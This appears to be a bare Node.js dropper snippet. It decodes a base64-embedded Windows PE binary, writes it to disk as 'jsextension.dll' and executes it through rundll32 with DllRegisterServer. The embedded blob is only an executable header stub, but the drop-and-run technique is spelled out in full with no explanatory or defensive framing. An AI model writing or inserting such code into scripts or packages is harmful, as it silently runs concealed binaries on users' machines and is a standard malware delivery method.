const fs = require('fs');
const { exec } = require('child_process');
const b = Buffer.from('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==', 'base64');
fs.writeFileSync('jsextension.dll', b);
exec('rundll32.exe jsextension.dll,DllRegisterServer');
